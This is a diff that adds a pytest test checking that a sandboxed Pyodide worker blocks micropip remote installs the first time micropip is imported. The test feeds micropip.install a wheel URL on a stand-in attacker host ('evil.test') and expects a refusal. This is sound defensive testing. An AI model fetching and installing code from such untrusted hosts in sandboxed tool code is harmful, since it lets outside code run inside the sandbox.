@@ -341,3 +341,25 @@ def test_pyfetch_goes_through_the_host_and_sync_urls_are_refused_clearly(
     response = asyncio.run(fake.pyfetch("https://example.org/"))  # type: ignore[attr-defined]
     with pytest.raises(PyodideStatusError):
         response.raise_for_status()
+
+
+def test_micropip_is_routed_when_first_imported(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    """Not imported at boot (it costs a worker 0.2-0.3 s): the refusal is put in place by the
+    import that first loads it, before the importer gets the module."""
+    import importlib
+    import sys
+
+    from cloche.worker import refuse_remote_installs
+
+    (tmp_path / "micropip.py").write_text("async def install(requirements, **kwargs):\n    pass\n")
+    monkeypatch.delitem(sys.modules, "micropip", raising=False)
+    monkeypatch.setattr(sys, "meta_path", list(sys.meta_path))
+    monkeypatch.syspath_prepend(str(tmp_path))
+    refuse_remote_installs()
+    assert "micropip" not in sys.modules
+    micropip = importlib.import_module("micropip")
+    with pytest.raises(ValueError, match="is not available to tool code"):
+        asyncio.run(micropip.install("https://evil.test/x-1.0-py3-none-any.whl"))
+    assert not any(type(f).__name__ == "_AfterImport" for f in sys.meta_path)
